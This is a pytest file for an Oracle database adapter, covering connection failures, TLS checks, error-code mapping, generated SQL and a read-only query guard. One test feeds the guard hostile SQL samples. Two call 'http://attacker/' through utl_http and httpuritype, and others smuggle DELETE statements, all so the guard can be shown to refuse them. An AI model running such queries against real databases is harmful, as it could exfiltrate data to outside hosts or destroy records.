"""Oracle at its driver's edge: the real driver against listeners that refuse, hang up or are something else, and the
SQL that would be sent, as SQLAlchemy writes it and another parser reads it."""

from __future__ import annotations

import gc
import re
import ssl
import sys
import threading
from contextlib import AbstractContextManager
from dataclasses import replace
from pathlib import Path

import oracledb
import pytest
import sqlglot
from sqlalchemy import Connection, Dialect
from sqlalchemy.dialects.oracle import NUMBER
from sqlalchemy.dialects.oracle.oracledb import OracleDialect_oracledb

from kbconnect.adapters.sources import oracle
from kbconnect.adapters.sources.dialect import DialectProvider, checked_selection
from kbconnect.adapters.sources.dialect_check import check
from kbconnect.adapters.sources.dialect_errors import Edge
from kbconnect.adapters.sources.dialect_read import DialectReader
from kbconnect.adapters.sources.dialect_values import kind_of_type, value_of
from kbconnect.core.access import AccessWish, NeededTable
from kbconnect.core.connector import (
    CheckStep,
    ConnectorDraft,
    ConnectorOptions,
    Dial,
    Extra,
    ProviderInfo,
    Secret,
    TlsMode,
    Verified,
)
from kbconnect.core.errors import (
    AccessDeniedError,
    ColumnMissingError,
    ConnectTimeoutError,
    DatabaseMissingError,
    DriverMissingError,
    InputError,
    LoginRefusedError,
    PortClosedError,
    QueryRefusedError,
    SourceConflictError,
    SourceError,
    SourceLostError,
    SourceTimeoutError,
    TableMissingError,
    TlsError,
)
from kbconnect.core.job import InlineContext
from kbconnect.core.model import ColumnInfo, ColumnKind, QuerySelection, TableRef, TableSelection
from kbconnect.core.ports import CursorWindow, ReadPlan
from tests.adapters.sources import tds_server, tns_server
from tests.adapters.sources.sent_sql import Recorded
from tests.adapters.sources.tds_server import Seen
from tests.certificates import Certificates, make_certificates

INFO = ProviderInfo("oracle", "Oracle", "Or", 1521, is_file=False, scheme="oracle", verified=Verified.DRIVER)
DIALECT = oracle.dialect(INFO)
PASSWORD = "planted-secret-7731"


def draft(port: int, **options: object) -> ConnectorDraft:
    chosen = ConnectorOptions(connect_timeout_s=1, **options)  # type: ignore[arg-type]  # by field
    return ConnectorDraft("Shop", "oracle", "127.0.0.1", port, "reader", "shop", chosen)


def refusal(connector: ConnectorDraft) -> SourceError:
    with pytest.raises(SourceError) as caught, DialectProvider(DIALECT).open(connector, Secret(PASSWORD)):
        pass
    assert PASSWORD not in f"{caught.value.message}{caught.value.hint}{caught.value.detail}"
    assert caught.value.hint
    return caught.value


def steps_of(connector: ConnectorDraft) -> dict[str, CheckStep]:
    report = check(DIALECT, connector, Secret(PASSWORD), lambda _: None, InlineContext())
    return {step.name: step for step in report.steps}


@pytest.mark.parametrize("number", [12514, 12505])
def test_a_service_the_listener_does_not_know_is_told(number: int) -> None:
    seen = Seen()
    by_sid = {"extras": (Extra("connect_by", "sid"),)} if number == 12505 else {}
    with tds_server.serving(tns_server.refusing(number, seen)) as port:
        assert isinstance(refusal(draft(port, **by_sid)), DatabaseMissingError)
        steps = steps_of(draft(port, **by_sid))
    assert [name for name, step in steps.items() if not step.ok] == ["database"]
    asked = seen.logins[0].upper()
    assert (b"SID=SHOP" if by_sid else b"SERVICE_NAME=SHOP") in asked
    assert b"PROGRAM=KBCONNECT" in asked


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
def test_something_else_on_the_port_is_no_server() -> None:
    """The driver leaves its socket to the garbage collector, which Python warns of."""
    for behave in (tds_server.hang_up, tds_server.talk_rubbish):
        with tds_server.serving(behave) as port:
            assert isinstance(refusal(draft(port)), (PortClosedError, SourceLostError))
            steps = steps_of(draft(port))
        assert [name for name, step in steps.items() if not step.ok] == ["login"]
    gc.collect()


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
def test_a_server_that_says_nothing_is_given_up() -> None:
    """The driver itself would wait for ever; it leaves its socket to the garbage collector, which Python warns of."""
    with tds_server.serving(tds_server.stay_silent) as port:
        assert isinstance(refusal(draft(port)), ConnectTimeoutError)
        steps = steps_of(draft(port))
        assert [name for name, step in steps.items() if not step.ok] == ["login"]
    for thread in threading.enumerate():
        if thread.name == "connecting":
            thread.join(20)  # the server has hung up
            assert not thread.is_alive()
    gc.collect()


def test_a_closed_port_is_told() -> None:
    with tds_server.serving(tds_server.hang_up) as port:
        pass
    assert isinstance(refusal(draft(port)), PortClosedError)
    assert list(steps_of(draft(port))) == ["resolve", "connect"]


@pytest.fixture(scope="module")
def certificates(tmp_path_factory: pytest.TempPathFactory) -> Certificates:
    return make_certificates(tmp_path_factory.mktemp("tns"))


@pytest.fixture(scope="module")
def pem(certificates: Certificates) -> Path:
    file = certificates.server_file.parent / "both.pem"
    file.write_bytes(certificates.server_file.read_bytes() + certificates.server_key_file.read_bytes())
    return file


@pytest.mark.parametrize(
    ("mode", "authority", "host", "is_asked"),
    [
        (TlsMode.REQUIRE, "", "127.0.0.1", True),
        (TlsMode.VERIFY_CA, "ours", "elsewhere.example", True),
        (TlsMode.VERIFY_FULL, "ours", "127.0.0.1", True),
        (TlsMode.VERIFY_FULL, "ours", "elsewhere.example", False),
        (TlsMode.VERIFY_CA, "other", "127.0.0.1", False),
        (TlsMode.VERIFY_FULL, "", "127.0.0.1", False),
    ],
)
def test_the_certificate_is_checked_before_anything_is_said(
    certificates: Certificates, pem: Path, mode: TlsMode, authority: str, host: str, is_asked: bool
) -> None:
    seen = Seen()
    file = {"ours": str(certificates.ca_file), "other": str(certificates.other_ca_file), "": ""}[authority]
    with tds_server.serving(tns_server.refusing(12514, seen, pem)) as port:
        connector = replace(draft(port, tls=mode, tls_ca_file=file), host=host, dial=Dial("127.0.0.1", port))
        error = refusal(connector)
    assert bool(seen.logins) is is_asked
    assert isinstance(error, DatabaseMissingError if is_asked else TlsError)


def test_encryption_that_is_demanded_is_never_given_up() -> None:
    seen = Seen()
    with tds_server.serving(tns_server.refusing(12514, seen)) as port:
        assert isinstance(refusal(draft(port, tls=TlsMode.REQUIRE)), (TlsError, PortClosedError))
    assert b"SERVICE_NAME" not in b"".join(seen.logins)


def test_the_driver_is_told_where_and_how() -> None:
    told = oracle.connect_arguments(replace(draft(2484, tls=TlsMode.VERIFY_FULL), host="db.example"), INFO)
    assert (told["host"], told["port"], told["protocol"], told["service_name"]) == ("db.example", 2484, "tcps", "shop")
    context = told["ssl_context"]
    assert isinstance(context, ssl.SSLContext)
    assert context.check_hostname
    plain = oracle.connect_arguments(draft(1521), INFO)
    assert plain["protocol"] == "tcp"
    assert "ssl_context" not in plain
    tunnelled = oracle.connect_arguments(replace(draft(1521), dial=Dial("127.0.0.1", 4711)), INFO)
    assert tunnelled["port"] == 4711


def test_certificates_that_can_not_be_read_are_named(tmp_path: Path) -> None:
    for options in ({"tls_ca_file": str(tmp_path / "no.pem")}, {"tls_certificate_file": str(tmp_path / "no.pem")}):
        with pytest.raises(InputError, match="can't be read"):
            oracle.connect_arguments(draft(1, tls=TlsMode.VERIFY_FULL, **options), INFO)
    wallet = draft(1, tls=TlsMode.VERIFY_CA, extras=(Extra("wallet_location", str(tmp_path)),))
    with pytest.raises(InputError, match="can't be read"):
        oracle.connect_arguments(wallet, INFO)


def test_a_missing_driver_says_how_to_get_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "oracledb", None)
    with pytest.raises(DriverMissingError) as caught, DialectProvider(DIALECT).open(draft(1), None):
        pass
    assert "pip install 'kbconnect[oracle]'" in caught.value.hint


class _Said:
    """What the driver hangs on its errors."""

    def __init__(self, full_code: str, message: str = "") -> None:
        self.full_code = full_code
        self.message = message


@pytest.mark.parametrize(
    ("code", "message", "kind"),
    [
        ("ORA-01017", "", LoginRefusedError), ("ORA-12514", "", DatabaseMissingError),
        ("ORA-00942", "", TableMissingError), ("ORA-00904", "", ColumnMissingError),
        ("ORA-01031", "", AccessDeniedError), ("ORA-12541", "", PortClosedError),
        ("ORA-12170", "", ConnectTimeoutError), ("ORA-01555", "", SourceConflictError),
        ("ORA-03113", "", SourceLostError), ("ORA-01013", "", SourceTimeoutError),
        ("DPY-6000", "listener refused connection\nORA-12514: no such service", DatabaseMissingError),
    ],
)  # fmt: skip
def test_codes_of_the_server_have_meanings(code: str, message: str, kind: type[SourceError]) -> None:
    with pytest.raises(kind), Edge(DIALECT, (oracledb.Error,)).translated():
        raise oracledb.DatabaseError(_Said(code, message))


# --------------------------------------------------------------------------------------------------- SQL

TABLE = TableRef("SHOP", "Order")
COLUMNS = {
    "ID": ColumnInfo("ID", "number", ColumnKind.INTEGER, nullable=False, primary_key=1),
    "CODE": ColumnInfo("CODE", "varchar2(9)", ColumnKind.TEXT),
    "BODY": ColumnInfo("BODY", "clob", ColumnKind.TEXT),
    "CHANGED": ColumnInfo("CHANGED", "timestamp", ColumnKind.TIMESTAMP),
}


def no_other() -> AbstractContextManager[Connection]:
    raise AssertionError


def written() -> Dialect:
    """How SQLAlchemy writes for this driver."""
    return OracleDialect_oracledb()  # type: ignore[no-untyped-call]  # untyped there


def sent(plan: ReadPlan, use: str, *arguments: object) -> list[str]:
    recorded = Recorded(written())
    reader = DialectReader(recorded, Edge(DIALECT), plan, COLUMNS, no_other)  # type: ignore[arg-type]  # records
    list(getattr(reader, use)(*arguments))
    return recorded.statements


def test_the_statements_are_those_of_oracle() -> None:
    by_id = ReadPlan(TableSelection(TABLE), ("ID",), ("BODY",), (), cursor_column="CHANGED")
    by_code = ReadPlan(TableSelection(TABLE), ("CODE",), ("BODY",), ())
    statements = [
        *sent(by_id, "rows", CursorWindow("time:2024-01-01T00:00:00", 5)),
        *sent(by_id, "rows_by_key", [("1",), ("2",)]),
        *sent(by_code, "keys"),
    ]
    assert all('FROM "SHOP"."Order" q' in statement for statement in statements)
    assert 'q."CHANGED" >= :cursor_bound OR q."CHANGED" IS NULL' in statements[0]
    assert 'q."ID" IN (:k0, :k1)' in statements[1]
    assert "ORDER BY NLSSORT(q.\"CODE\", 'NLS_SORT=BINARY')" in statements[2]
    for statement in statements:
        sqlglot.parse_one(re.sub(r":\w+", "1", statement), read="oracle")
    assert DIALECT.begin == ("SET TRANSACTION READ ONLY",)


@pytest.mark.parametrize(
    "statement",
    [
        DIALECT.row_estimates, DIALECT.readable, DIALECT.schemas, DIALECT.version,
        *(question.statement for question in oracle.QUESTIONS),
    ],
)  # fmt: skip
def test_what_is_asked_of_the_catalogue_can_be_parsed_and_only_reads(statement: str) -> None:
    parsed = sqlglot.parse(statement, read="oracle")
    assert len(parsed) == 1
    assert isinstance(parsed[0], sqlglot.exp.Query)


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT utl_http.request('http://attacker/') FROM dual",
        "SELECT SYS.DBMS_XMLQUERY.getXml('DELETE FROM t') FROM dual",
        "SELECT httpuritype('http://attacker/').getclob() FROM dual",
        "SELECT * FROM t FOR UPDATE",
        "BEGIN DELETE FROM t; END;",
    ],
)
def test_queries_that_do_more_than_read_are_refused(sql: str) -> None:
    with pytest.raises(QueryRefusedError):
        checked_selection(DIALECT, QuerySelection(sql))


def test_the_script_grants_reading_of_what_is_needed() -> None:
    wish = AccessWish("KB_READER", (NeededTable(TABLE, ("ID",)), NeededTable(TableRef("", "B"))))
    made = oracle.script(Recorded(written(), answer="SHOP"), wish)  # type: ignore[arg-type]  # records
    assert 'GRANT READ ON "SHOP"."Order" TO "KB_READER";' in made.make
    assert 'GRANT READ ON "SHOP"."B" TO "KB_READER";' in made.make
    assert "grant a view" in made.notes[0]


def test_what_the_account_could_do_is_named() -> None:
    powers = DIALECT.powers
    assert powers is not None
    found = powers(Recorded(written(), answer=1))  # type: ignore[arg-type]  # records
    assert "DBA" in found[0].sentence
    assert powers(Recorded(written(), answer=0)) == ()  # type: ignore[arg-type]  # records


@pytest.mark.parametrize(
    ("precision", "scale", "kind"),
    [(10, 0, ColumnKind.INTEGER), (10, 2, ColumnKind.NUMBER), (None, None, ColumnKind.NUMBER)],
)
def test_the_one_type_of_numbers_is_two_kinds(precision: int | None, scale: int | None, kind: ColumnKind) -> None:
    assert kind_of_type(NUMBER(precision, scale)) is kind  # type: ignore[no-untyped-call]  # untyped there
    assert value_of(kind, "7") == 7
